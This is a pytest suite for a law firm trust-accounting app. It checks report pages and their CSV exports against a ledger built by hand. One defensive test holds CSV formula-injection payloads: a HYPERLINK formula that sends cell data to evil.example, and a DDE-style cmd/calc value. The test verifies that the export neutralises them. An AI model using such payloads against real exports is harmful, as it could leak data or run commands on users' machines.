"""Each report's figures against a ledger built by hand, and its CSV read back and compared with the page.

The firm's last three months, through the services a person uses: two retainers, a filing fee, a transfer
between Ada's matters (three months ago), a deposit made in error and reversed, Ben's expert fee (two months ago),
Ben's payment on an overdue trust request (last month), part of it refunded and then charged back (today). The
expected figures below are worked out by hand from that story, not by the code under test. The story's days are
counted from today (tests.dates), so it reads the same on any day.
"""

import csv
import io
import re
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from tests.dates import iso, month_day, month_end, month_start, today
from tests.factories import gen_account, gen_contact, gen_matter, gen_trust_setup, gen_user
from tests.statements import statements
from trustweb.extensions import db
from trustweb.models import BankAccount, Contact, JournalEntry, Matter, Payment, User
from trustweb.reports import routes as report_routes
from trustweb.services import payments, refunds
from trustweb.services import requests as request_service
from trustweb.services.books import check_books
from trustweb.services.ledger_reports import MATTERS_FOUND
from trustweb.services.trust import Holder, record_deposit, record_disbursement, reverse, transfer


def aged_on():
    """The day the open requests are aged to: the 25th of last month, after every request was issued."""
    return month_day(1, 25)


def whole_month(months_back):
    """The report filter for one whole month of the story (3: the first, with the retainers)."""
    return f"from={iso(month_start(months_back))}&to={iso(month_end(months_back))}"


@pytest.fixture
def books(app):
    """The hand-built three months; returns the ids the tests need."""
    with app.app_context():
        setup = gen_trust_setup()
        gen_account("Operating", kind="operating", is_default=True)
        account = db.session.get(BankAccount, setup.account)
        lawyer = db.session.get(User, setup.lawyer)
        a1, a2, b1 = (
            Holder(setup.client_a, setup.matter_a1),
            Holder(setup.client_a, setup.matter_a2),
            Holder(setup.client_b, setup.matter_b1),
        )
        record_deposit(
            account=account,
            holder=a1,
            amount_cents=1_000_000,
            entry_date=month_day(3, 1),
            method="wire",
            payer="Ada Archer",
        )
        record_deposit(
            account=account,
            holder=b1,
            amount_cents=500_000,
            entry_date=month_day(3, 5),
            method="cheque",
            payer="Ben Baker",
        )
        record_disbursement(
            account=account,
            holder=a1,
            amount_cents=120_000,
            entry_date=month_day(3, 10),
            payee="Clerk of Court",
            description="Filing fee",
            method="wire",
        )
        transfer(
            account=account,
            source=a1,
            destination=a2,
            amount_cents=200_000,
            entry_date=month_day(3, 15),
            reason="Estate work",
        )
        mistake = record_deposit(
            account=account,
            holder=a2,
            amount_cents=30_000,
            entry_date=month_day(2, 2),
            method="wire",
            payer="Ada Archer",
        )
        reverse(mistake, reason="Deposited to the wrong matter", entry_date=month_day(2, 3))
        record_disbursement(
            account=account,
            holder=b1,
            amount_cents=50_000,
            entry_date=month_day(2, 20),
            payee="Dr. Expert",
            description="Expert report",
            method="wire",
        )

        def ask(holder, amount, issued, due):
            return request_service.create_request(
                {
                    "contact": db.session.get(Contact, holder.contact_id),
                    "matter": db.session.get(Matter, holder.matter_id),
                    "account": account,
                    "template": None,
                    "amount_cents": amount,
                    "issued_on": issued,
                    "due_on": due,
                    "message": None,
                    "allow_partial": True,
                    "minimum_cents": None,
                    "recipients": ["client@example.com"],
                    "cc": [],
                },
                lawyer,
            )

        overdue_a_month = ask(a1, 500_000, month_day(2, 15), month_day(1, 1))
        request_service.send_request(overdue_a_month, lawyer)
        long_overdue = ask(b1, 200_000, month_day(5, 20), month_day(4, 1))
        request_service.send_request(long_overdue, lawyer)
        ask(a2, 90_000, month_day(1, 20), month_day(-1, 10))  # a draft: not open yet
        payment = payments.record_manual_payment(
            long_overdue,
            amount_cents=100_000,
            method="cheque",
            received_on=month_day(1, 4),
            reference="Cheque 5521",
            payer="Ben Baker",
            cleared=True,
            idempotency_key="k" * 24,
            user=lawyer,
        )
        refunds.refund_payment(
            payment, 25_000, online=False, reason="Overpaid expert deposit", user=lawyer, idempotency_key="r" * 24
        )
        refunds.open_dispute(db.session.get(Payment, payment.id), "dp_test_autumn", 40_000, 1_500)
        db.session.commit()
        assert check_books() == []
        return setup


def sign_in(app, auth):
    """The bookkeeper runs the reports."""
    with app.app_context():
        bookkeeper = gen_user("bookkeeper")
    auth.login_as(bookkeeper)


class Table(HTMLParser):
    """The cells of the page's #report-table, as text."""

    def __init__(self, table_id="report-table"):
        super().__init__()
        self.table_id, self.inside, self.rows, self.cell = table_id, False, [], None

    def handle_starttag(self, tag, attrs):
        if tag == "table" and dict(attrs).get("id") == self.table_id:
            self.inside = True
        elif self.inside and tag == "tr":
            self.rows.append([])
        elif self.inside and tag in ("td", "th"):
            self.cell = ""

    def handle_endtag(self, tag):
        if tag == "table":
            self.inside = False
        elif self.inside and tag in ("td", "th") and self.cell is not None:
            self.rows[-1].append(" ".join(self.cell.split()))
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell += data


def page_table(html, table_id="report-table"):
    parser = Table(table_id)
    parser.feed(html)
    return parser.rows


def summary(html):
    return dict(re.findall(r'data-label="([^"]+)">([^<]*)</dd>', html))


def read_csv(response):
    """(preamble as {label: value}, header, rows, total row or None) of a report's CSV."""
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())  # the BOM: Excel reads the file as UTF-8
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    blank = lines.index([])
    preamble = {line[0]: line[1] for line in lines[1:blank] if len(line) == 2}
    header, body = lines[blank + 1], lines[blank + 2 :]
    rows, total = [], None
    for line in body:
        if not line:
            break
        if line[0] == "Total":
            total = line
            break
        rows.append(line)
    return preamble, header, rows, total


def as_plain(cell):
    """A cell of the page the way the CSV writes it: $1,200.00 is 1200.00."""
    match = re.fullmatch(r"(-?)\$([\d,]+\.\d\d)", cell)
    return f"{match.group(1)}{match.group(2).replace(',', '')}" if match else cell


def assert_csv_matches_page(client, url):
    html = client.get(url).get_data(as_text=True)
    shown = page_table(html)
    preamble, header, rows, total = read_csv(client.get(url + ("&" if "?" in url else "?") + "format=csv"))
    assert header == shown[0]
    body = [row for row in shown[1:] if row and row[0] != "Total"]
    assert rows == [[as_plain(cell) for cell in row] for row in body]
    if total is not None:
        assert total == [as_plain(cell) for cell in shown[-1]]
    for label, value in summary(html).items():
        assert preamble[label] == as_plain(value)
    return html, rows, preamble


def test_client_balances_as_of_three_dates_add_up_to_the_journal(app, client, auth, books):
    sign_in(app, auth)
    expected = {
        iso(month_end(3)): {
            "Ada Archer 1": "6800.00",
            "Ada Archer 2": "2000.00",
            "Ben Baker": "5000.00",
            "bank": "13800.00",
        },
        iso(month_end(2)): {
            "Ada Archer 1": "6800.00",
            "Ada Archer 2": "2000.00",
            "Ben Baker": "4500.00",
            "bank": "13300.00",
        },
        # Ben: 4,500 + 1,000 paid − 250 refunded − 400 charged back (today).
        iso(today()): {
            "Ada Archer 1": "6800.00",
            "Ada Archer 2": "2000.00",
            "Ben Baker": "4850.00",
            "bank": "13650.00",
        },
    }
    for as_of, figures in expected.items():
        html, rows, preamble = assert_csv_matches_page(client, f"/reports/balances?as_of={as_of}")
        balances = sorted(row[3] for row in rows)
        assert balances == sorted(v for k, v in figures.items() if k != "bank")
        assert preamble["Trust account journal balance"] == figures["bank"]
        assert preamble["Total of all client ledgers"] == figures["bank"]
        assert preamble["Difference"] == "0.00"
    # Before anything happened: nothing held.
    html = client.get(f"/reports/balances?as_of={iso(month_start(4))}").get_data(as_text=True)
    assert "Nothing to report" in html and summary(html)["Trust account journal balance"] == "$0.00"


def test_the_journal_runs_its_balance_through_transfers_and_reversals(app, client, auth, books):
    sign_in(app, auth)
    html, rows, preamble = assert_csv_matches_page(client, f"/reports/journal?{whole_month(3)}")
    assert [(r[2], r[6], r[7], r[8]) for r in rows] == [
        ("Deposit", "10000.00", "", "10000.00"),
        ("Deposit", "5000.00", "", "15000.00"),
        ("Payment out", "", "1200.00", "13800.00"),
        ("Transfer", "", "", "13800.00"),  # between two of Ada's matters: the bank is untouched
    ]
    html = client.get(f"/reports/journal?{whole_month(2)}").get_data(as_text=True)
    figures = summary(html)
    assert (figures["Opening balance"], figures["Deposits"], figures["Withdrawals"], figures["Closing balance"]) == (
        "$13,800.00",
        "$300.00",
        "$800.00",
        "$13,300.00",
    )
    _, _, rows, _ = read_csv(client.get(f"/reports/journal?{whole_month(2)}&format=csv"))
    assert [(r[2], r[8]) for r in rows] == [
        ("Deposit", "14100.00"),
        ("Reversal", "13800.00"),
        ("Payment out", "13300.00"),
    ]
    # The whole journal's CSV ends on the account's balance today.
    _, _, rows, _ = read_csv(client.get("/reports/journal?format=csv"))
    assert rows[-1][8] == "13650.00" and len(rows) == 10


def test_the_journal_read_a_page_at_a_time_is_the_whole_journal(app, client, auth, books, monkeypatch):
    """Pages after the first carry the running balance from the entries before them (page 2 was a 500)."""
    monkeypatch.setattr(report_routes, "JOURNAL_PAGE", 4)
    sign_in(app, auth)
    _, _, whole, _ = read_csv(client.get("/reports/journal?format=csv"))
    shown = []
    for page in (1, 2, 3):
        response = client.get(f"/reports/journal?page={page}")
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        assert f"Page {page} of 3" in html
        assert summary(html)["Closing balance"] == "$13,650.00"  # the figures are the whole journal's
        shown += [[as_plain(cell) for cell in row] for row in page_table(html)[1:]]
    assert shown == whole and len(shown) == 10


def test_a_client_ledger_over_a_range_opens_and_closes_on_the_right_balances(app, client, auth, books):
    sign_in(app, auth)
    with app.app_context():
        number = db.session.get(Matter, books.matter_a1).number
    html, rows, preamble = assert_csv_matches_page(
        client, f"/reports/client-ledger?matter={number}&from={iso(month_day(3, 6))}&to={iso(month_end(2))}"
    )
    assert preamble["Opening balance"] == "10000.00" and preamble["Closing balance"] == "6800.00"
    assert [(r[6], r[7]) for r in rows] == [("1200.00", "8800.00"), ("2000.00", "6800.00")]
    assert preamble["Money out"] == "3200.00" and preamble["Money in"] == "0.00"


def test_open_requests_age_by_how_long_they_are_overdue(app, client, auth, books):
    sign_in(app, auth)
    as_of = aged_on()
    html, rows, preamble = assert_csv_matches_page(client, f"/reports/open-requests?as_of={iso(as_of)}")
    # TR-000001 (Ada) due on the 1st of last month: 24 days. TR-000002 (Ben) due on the 1st four months ago: three
    # months and 24 days, 113 to 116 by the months' lengths; 2,000 asked, 1,000 paid, the 400 charged back is owed
    # again (600 paid), the 250 refunded is counted beside it and no longer asked for: 1,400 due.
    ben_days = (as_of - month_day(4, 1)).days
    assert 113 <= ben_days <= 116
    assert [(r[0], r[7], r[8], r[9], r[10], r[11], r[12]) for r in rows] == [
        ("TR-000002", "2000.00", "600.00", "250.00", "1400.00", str(ben_days), "Over 90"),
        ("TR-000001", "5000.00", "0.00", "0.00", "5000.00", "24", "1–30 days"),
    ]
    assert (preamble["Current"], preamble["1–30 days"], preamble["Over 90"]) == ("0.00", "5000.00", "1400.00")
    # An earlier date ages the requests issued by then to that day, and says what it does not turn back.
    tenth = month_day(1, 10)
    earlier = client.get(f"/reports/open-requests?as_of={iso(tenth)}").get_data(as_text=True)
    assert f"Days overdue are counted to {iso(tenth)}" in earlier and "as it stands today" in earlier
    assert [(row[0], row[11]) for row in page_table(earlier)[1:-1]] == [
        ("TR-000002", str(ben_days - 15)),
        ("TR-000001", "9"),
    ]
    # The draft shows when asked for.
    _, _, rows, _ = read_csv(client.get(f"/reports/open-requests?as_of={iso(as_of)}&status=draft&format=csv"))
    assert [r[0] for r in rows] == ["TR-000003"]


def test_payments_report_totals_by_method(app, client, auth, books):
    sign_in(app, auth)
    html, rows, preamble = assert_csv_matches_page(client, f"/reports/payments?from={iso(month_start(1))}")
    assert [(r[4], r[5], r[8], r[9], r[10], r[11]) for r in rows] == [
        ("TR-000002", "Cheque", "1000.00", "0.00", "250.00", "Disputed")
    ]
    groups = page_table(html, "report-group-1")
    assert groups[1] == ["Cheque", "1", "$1,000.00", "$0.00", "$250.00"]
    assert (
        client.get(f"/reports/payments?from={iso(month_day(1, 5))}").get_data(as_text=True).count("Nothing to report")
        == 1
    )


@pytest.mark.parametrize(
    ("url", "message"),
    [
        (f"/reports/balances?as_of=31/12/{today().year}", "is not a date"),
        (f"/reports/journal?from={iso(month_start(1))}&to={iso(month_start(2))}", "start date is after the end date"),
        ("/reports/payments?account=abc", "Choose the account from the list"),
        ("/reports/payments?account=99999", "Choose a trust account"),
        ("/reports/open-requests?lawyer=99999", "Choose the lawyer"),
        ("/reports/client-ledger?matter=1999-9999", "No matter is numbered"),
        ("/reports/open-requests?status=paid", "Choose a status"),
        (f"/reports/balances?as_of={today().year}-13-01&format=csv", "is not a date"),
    ],
)
def test_a_bad_filter_is_a_400_with_the_reason(app, client, auth, books, url, message):
    sign_in(app, auth)
    response = client.get(url)
    assert response.status_code == 400 and message in response.get_data(as_text=True)


def test_htmx_gets_the_results_alone_and_the_page_prints_its_header(app, client, auth, books):
    sign_in(app, auth)
    as_of = iso(today())
    partial = client.get(f"/reports/balances?as_of={as_of}", headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "<html" not in partial and 'id="report-table"' in partial
    page = client.get(f"/reports/balances?as_of={as_of}").get_data(as_text=True)
    assert 'class="print-only report-head"' in page and f"Filters: as of {as_of}" in page
    assert 'hx-get="/reports/balances"' in page and "data-print" in page


def test_reports_need_a_login(app, client, books):
    for url in ("/reports/", "/reports/balances", "/reports/journal?format=csv"):
        response = client.get(url)
        assert response.status_code in (302, 303) and "/auth/login" in response.headers["Location"]


def test_entries_dated_the_same_day_keep_their_order(app, client, auth, books):
    """Backdated entries sort by date, then by when they were made: the running balance is by date."""
    sign_in(app, auth)
    with app.app_context():
        account = db.session.get(BankAccount, books.account)
        record_deposit(
            account=account,
            holder=Holder(books.client_b, books.matter_b1),
            amount_cents=1_00,
            entry_date=month_day(3, 2),
            method="cash",
            payer="Ben Baker",
        )
        assert db.session.scalar(select(JournalEntry.id).order_by(JournalEntry.id.desc()))
    _, _, rows, _ = read_csv(client.get(f"/reports/journal?{whole_month(3)}&format=csv"))
    assert [r[8] for r in rows] == ["10000.00", "10001.00", "15001.00", "13801.00", "13801.00"]


def test_text_a_client_typed_never_runs_as_a_spreadsheet_formula(app, client, auth, books):
    """A payer's name comes from the client; a CSV cell starting with = + - @ would run as a formula in Excel, so
    text cells get a leading apostrophe. Amounts (a negative one starts with -) stay numbers."""
    sign_in(app, auth)
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with app.app_context():
        contact = db.session.get(Contact, books.client_b)
        contact.name = "@SUM(1+1)*cmd|' /C calc'!A0"
        number = db.session.get(Matter, books.matter_b1).number
        db.session.commit()
        record_deposit(
            account=db.session.get(BankAccount, books.account),
            holder=Holder(books.client_b, books.matter_b1),
            amount_cents=2_00,
            entry_date=month_day(1, 20),
            method="cash",
            payer=attack,
            reference="+1 555 0100",
            description="-2+3",
        )
    urls = [
        "/reports/journal?format=csv",
        f"/reports/client-ledger?matter={number}&format=csv",
        f"/reports/balances?as_of={iso(today())}&format=csv",
        "/reports/payments?format=csv",
        f"/reports/open-requests?as_of={iso(aged_on())}&format=csv",
    ]
    cells = []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        cells += [c for line in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in line]
    for value in cells:
        if value[:1] in ("=", "+", "@", "\t", "\r"):
            pytest.fail(f"a CSV cell would run as a formula: {value!r}")
        if value.startswith("-"):
            assert re.fullmatch(r"-\d+\.\d\d", value), value
    assert "'" + attack in cells and "'+1 555 0100" in cells and "'-2+3" in cells
    # The amounts stay plain numbers: every journal row's deposits, withdrawals and balance.
    _, _, rows, _ = read_csv(client.get("/reports/journal?format=csv"))
    assert len(rows) == 11 and all(re.fullmatch(r"(-?\d+\.\d\d)?", cell) for row in rows for cell in row[6:9])
    assert {row[7] for row in rows} >= {"1200.00", "500.00"}
    assert any(value.startswith("'@SUM(1+1)") for value in cells)
    _, _, rows, _ = read_csv(
        client.get(f"/reports/journal?from={iso(month_day(1, 20))}&to={iso(month_day(1, 20))}&format=csv")
    )
    assert [(r[3], r[4], r[5], r[6]) for r in rows] == [("'-2+3", "'" + attack, "'+1 555 0100", "2.00")]


# The matter picker (a search whose matches are links, never a list of every matter), the client ledger's CSV asked
# for before a matter is chosen, and the journal's cheque numbers and references.
def choices(html):
    """The picker's matches: (link, text) of each."""
    section = html.split('id="matter-choices"', 1)[1].split("</section>", 1)[0]
    return [
        (link.replace("&amp;", "&"), re.sub(r"<[^>]+>", "", text).strip())
        for link, text in re.findall(r'<a href="([^"]+)">(.*?)</a>', section)
    ]


def test_a_client_ledger_is_chosen_by_typing_part_of_the_clients_name(app, client, auth, books):
    sign_in(app, auth)
    page = client.get("/reports/client-ledger").get_data(as_text=True)
    assert 'id="f-find"' in page and 'id="report-table"' not in page and "choose it to see its trust ledger" in page

    found = client.get("/reports/client-ledger?find=archer").get_data(as_text=True)
    with app.app_context():
        numbers = {m.id: m.number for m in db.session.query(Matter)}
    listed = choices(found)
    assert sorted(text.split(" · ")[0] for _, text in listed) == sorted(
        [numbers[books.matter_a1], numbers[books.matter_a2]]
    )
    assert all(" · Ada Archer" in text for _, text in listed)

    chosen = next(link for link, text in listed if text.startswith(numbers[books.matter_a1]))
    assert chosen == f"/reports/client-ledger?matter={numbers[books.matter_a1]}"
    report = client.get(chosen).get_data(as_text=True)
    assert f"Showing {numbers[books.matter_a1]} · Ada Archer" in report
    assert numbers[books.matter_a1] in summary(report)["Ledger"] and len(page_table(report)) > 2


def test_htmx_gets_the_matches_alone_and_keeps_the_other_filters_in_their_links(app, client, auth, books):
    sign_in(app, auth)
    with app.app_context():
        number = db.session.get(Matter, books.matter_b1).number
    partial = client.get(
        "/reports/client-ledger?find=coastal&from=2020-01-01", headers={"HX-Request": "true"}
    ).get_data(as_text=True)
    assert "<html" not in partial
    assert choices(partial) == [(f"/reports/client-ledger?from=2020-01-01&matter={number}", f"{number} · Ben Baker")]
    assert "No matter matches “zzz”" in client.get("/reports/client-ledger?find=zzz").get_data(as_text=True)


def test_the_matches_are_a_few_however_many_matters_the_firm_has(app, client, auth, books):
    sign_in(app, auth)
    with app.app_context():
        lawyer = db.session.get(User, books.lawyer)
        smith = gen_contact("Sam Smith")
        for n in range(MATTERS_FOUND + 5):
            gen_matter(smith, lawyer, description=f"Lease {n}")
        db.session.commit()
        smith_id = smith.id
    html = client.get("/reports/client-ledger?find=smith").get_data(as_text=True)
    assert len(choices(html)) == MATTERS_FOUND and f"The first {MATTERS_FOUND} matches" in html
    with statements(app) as few:
        client.get("/reports/client-ledger?find=smith")
    with app.app_context():
        lawyer, smith = db.session.get(User, books.lawyer), db.session.get(Contact, smith_id)
        for n in range(50):
            gen_matter(smith, lawyer, description=f"More {n}")
        db.session.commit()
    with statements(app) as many:
        client.get("/reports/client-ledger?find=smith")
    assert len(few) == len(many)


def test_the_csv_without_a_matter_says_to_choose_one(app, client, auth, books):
    sign_in(app, auth)
    response = client.get("/reports/client-ledger?format=csv")
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and response.headers["Content-Type"].startswith("text/html")
    assert "Choose a matter first" in html and 'id="f-find"' in html


def test_the_journal_shows_each_cheque_number_and_reference_on_screen_and_in_the_csv(app, client, auth, books):
    sign_in(app, auth)
    with app.app_context():
        record_disbursement(
            account=db.session.get(BankAccount, books.account),
            holder=Holder(books.client_b, books.matter_b1),
            amount_cents=10_00,
            entry_date=today(),
            payee="Courier Co",
            description="Courier",
            method="cheque",
            cheque_number="1042",
            reference="INV-77",
            user=gen_user("lawyer"),
        )
    html = client.get("/reports/journal?page=1").get_data(as_text=True)
    rows = page_table(html)
    column = rows[0].index("Cheque / reference")
    assert [row[column] for row in rows[1:] if row and "Courier" in " ".join(row)] == ["Cheque 1042 · INV-77"]
    _, header, csv_rows, _ = read_csv(client.get("/reports/journal?format=csv"))
    assert header[column] == "Cheque / reference"
    assert [row[column] for row in csv_rows if row[3] == "Courier"] == ["Cheque 1042 · INV-77"]
